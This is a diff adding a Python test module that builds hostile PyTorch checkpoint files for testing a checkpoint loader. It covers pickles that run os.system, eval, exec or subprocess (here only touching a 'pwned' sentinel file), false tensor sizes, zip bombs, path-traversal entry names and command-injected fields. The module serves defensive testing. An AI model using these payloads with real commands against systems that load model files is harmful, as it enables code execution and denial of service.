@@ -1,0 +1,180 @@
+"""Files that would run code, fill the memory or leave their directory, if whoever reads them let them."""
+
+from __future__ import annotations
+
+import io
+import os
+import pickle
+import struct
+import zipfile
+from collections import OrderedDict
+from collections.abc import Callable
+from pathlib import Path
+
+import torch
+
+SENTINEL = "pwned"
+TOUCH = f"touch {SENTINEL}"
+
+
+class Calls:
+    """Pickles as a call of `function(*arguments)` at the moment of loading."""
+
+    def __init__(self, function, *arguments, state=None):
+        self.function, self.arguments, self.state = function, arguments, state
+
+    def __reduce__(self):
+        return (self.function, self.arguments) if self.state is None else (self.function, self.arguments, self.state)
+
+
+def raw(module: str, name: str, argument: str) -> bytes:
+    """Protocol 2: module.name(argument)."""
+    text = argument.encode()
+    return b"\x80\x02c" + f"{module}\n{name}\n".encode() + b"X" + struct.pack("<I", len(text)) + text + b"\x85R."
+
+
+def archive(data: bytes, extra: dict[str, bytes] | None = None, compression: int = zipfile.ZIP_STORED) -> bytes:
+    """A zip as torch.save lays it out, around any pickle."""
+    buffer = io.BytesIO()
+    with zipfile.ZipFile(buffer, "w", compression) as file:
+        entries = {"archive/data.pkl": data, "archive/byteorder": b"little", "archive/version": b"3\n", **(extra or {})}
+        for name, content in entries.items():
+            file.writestr(name, content)
+    return buffer.getvalue()
+
+
+def pickled(value, protocol: int = 2) -> bytes:
+    return archive(pickle.dumps(value, protocol))
+
+
+def saved(value) -> bytes:
+    buffer = io.BytesIO()
+    torch.save(value, buffer)
+    return buffer.getvalue()
+
+
+def tensor_claiming(
+    elements: int, stored: int = 40, size: int | None = None, stride: int = 1, offset: int = 0
+) -> bytes:
+    """A float tensor over `stored` bytes that says it has `elements`."""
+    size = elements if size is None else size
+
+    class Pickler(pickle.Pickler):
+        def persistent_id(self, value):
+            return ("storage", torch.FloatStorage, "0", "cpu", elements) if value == "the storage" else None
+
+    buffer = io.BytesIO()
+    build = Calls(torch._utils._rebuild_tensor_v2, "the storage", offset, (size,), (stride,), False, OrderedDict())
+    Pickler(buffer, 2).dump({"schema": 1, "w": build})
+    return archive(buffer.getvalue(), {"archive/data/0": bytes(stored)})
+
+
+def legacy(value) -> bytes:
+    """torch.save before 1.6: no checksums, a row of pickles."""
+    buffer = io.BytesIO()
+    torch.save(value, buffer, _use_new_zipfile_serialization=False)
+    return buffer.getvalue()
+
+
+def tampered_directory() -> bytes:
+    content = bytearray(saved({"schema": 1, "w": torch.zeros(10)}))
+    end = content.rindex(b"PK\x05\x06")
+    content[end + 16 : end + 20] = struct.pack("<I", 2**31)  # where the list of entries begins
+    return bytes(content)
+
+
+def overlapping() -> bytes:
+    """Entries that share one body: small in the file, large when read (a bomb without compression)."""
+    content, body = bytearray(archive(b"x" * 100_000)), b""
+    start = content.index(b"PK\x01\x02")
+    length = content.index(b"PK\x01\x02", start + 4) - start
+    entry, end = bytes(content[start : start + length]), content.rindex(b"PK\x05\x06")
+    body = bytes(content[:start]) + entry * 2000
+    tail = bytearray(content[end:])
+    struct.pack_into("<HHII", tail, 8, 2000, 2000, 2000 * length, start)
+    return body + bytes(tail)
+
+
+def circle() -> bytes:
+    value: list = []
+    value.append(value)
+    return saved({"schema": 1, "rows": value})
+
+
+def deep(levels: int) -> bytes:
+    return archive(b"\x80\x02" + b"]" * levels + b"a" * (levels - 1) + b".")
+
+
+def overridden_get() -> bytes:
+    """An OrderedDict whose `get` is a number."""
+    return archive(b"\x80\x02ccollections\nOrderedDict\n)R}X\x03\x00\x00\x00getK\x05sb.")
+
+
+def full(**changes) -> bytes:
+    """A whole checkpoint of ours, but for `changes`."""
+    import checkpoint
+
+    values = {dict: {}, list: [], str: "", int: 0}
+    plain = {name: values[kind] for name, kind in checkpoint.REQUIRED.items()}
+    return saved({"schema": 1} | plain | {"model_args": ARGS, "eval": {"classes": ["a", "b", "c"]}} | changes)
+
+
+ARGS = {"arch": "resnet_tiny", "num_classes": 3}
+PAYLOADS: dict[str, Callable[[], bytes]] = {
+    # code, by every door
+    "os.system": lambda: pickled(Calls(os.system, TOUCH)),
+    "os.system, highest protocol": lambda: pickled(Calls(os.system, TOUCH), 5),
+    "os.system, protocol 0": lambda: pickled(Calls(os.system, TOUCH), 0),
+    "posix.system": lambda: archive(raw("posix", "system", TOUCH)),
+    "eval": lambda: pickled(Calls(eval, f"open('{SENTINEL}', 'w')")),
+    "exec": lambda: pickled(Calls(exec, f"open('{SENTINEL}', 'w')")),
+    "subprocess": lambda: archive(raw("subprocess", "getoutput", TOUCH)),
+    "open": lambda: pickled(Calls(open, SENTINEL, "w")),
+    "importlib": lambda: archive(raw("importlib", "import_module", "antigravity")),
+    "dotted global": lambda: archive(raw("torch", "serialization.os.system", TOUCH)),
+    "torch.load inside": lambda: archive(raw("torch", "load", "x.pt")),
+    "torch.hub": lambda: archive(raw("torch.hub", "load_state_dict_from_url", "https://example.org/x.pt")),
+    "torch.jit": lambda: archive(raw("torch.jit", "load", "x.pt")),
+    "numpy file": lambda: archive(raw("numpy", "memmap", SENTINEL)),
+    "pickle.loads inside": lambda: pickled(Calls(pickle.loads, pickle.dumps(Calls(os.system, TOUCH)))),
+    "builtins.getattr": lambda: pickled(Calls(getattr, "x", "__class__")),
+    "among the weights": lambda: pickled({"schema": 1, "model": {"fc.weight": Calls(os.system, TOUCH)}}),
+    "as a key": lambda: pickled({Calls(os.system, TOUCH): 1}),
+    "state of a Path": lambda: pickled(Calls(Path, SENTINEL, state={"x": Calls(os.system, TOUCH)})),
+    "extension registry": lambda: archive(b"\x80\x02\x82\x01."),
+    "legacy format": lambda: legacy({"w": Calls(os.system, TOUCH)}),
+    "legacy tensors with a schema": lambda: legacy({"schema": 1, "w": torch.zeros(3)}),
+    "a bare pickle": lambda: pickle.dumps(Calls(os.system, TOUCH)),
+    "code behind a tensor": lambda: pickled(
+        [Calls(torch._utils._rebuild_parameter, Calls(os.system, TOUCH), False, {})]
+    ),
+    # sizes that are not true
+    "a tensor larger than its bytes": lambda: tensor_claiming(10**6),
+    "a tensor larger than any memory": lambda: tensor_claiming(2**60),
+    "a negative count": lambda: tensor_claiming(-5, size=5),
+    "a stride beyond the storage": lambda: tensor_claiming(10, size=10, stride=10**9),
+    "an offset beyond the storage": lambda: tensor_claiming(10, size=10, offset=10**9),
+    "a view of one number": lambda: full(model={"fc.weight": torch.zeros(1).expand(10**9)}),
+    "zip bomb": lambda: archive(b"\0" * 30_000_000, compression=zipfile.ZIP_DEFLATED),
+    "overlapping entries": overlapping,
+    "nested zip": lambda: archive(archive(archive(b"x"))),
+    # structure
+    "names that climb": lambda: archive(b"\x80\x02N.", {f"../../{SENTINEL}": b"x", f"/tmp/../{SENTINEL}": b"x"}),
+    "two pickles of one name": lambda: saved({"a": 1}) + pickled(Calls(os.system, TOUCH)),
+    "a directory far away": tampered_directory,
+    "no pickle": lambda: archive(b""),
+    "nested without end": lambda: deep(200_000),
+    "a circle": circle,
+    "a dict with another get": overridden_get,
+    "a step that is a text": lambda: full(step="1; touch pwned"),
+    "a sparse tensor": lambda: full(model={"w": torch.zeros(3, 3).to_sparse()}),
+    "a model nobody knows": lambda: full(model_args={"arch": "__import__('os').system"}),
+    "a model too large to be": lambda: full(model_args=ARGS | {"num_classes": 10**12}),
+    "arguments that are none": lambda: full(model_args=ARGS | {"weights": "https://example.org/x.pt"}),
+    "no weights": lambda: full(config={"epochs": "many"}),
+}
+
+
+def write(name: str, path: Path) -> Path:
+    path.write_bytes(PAYLOADS[name]())
+    return path
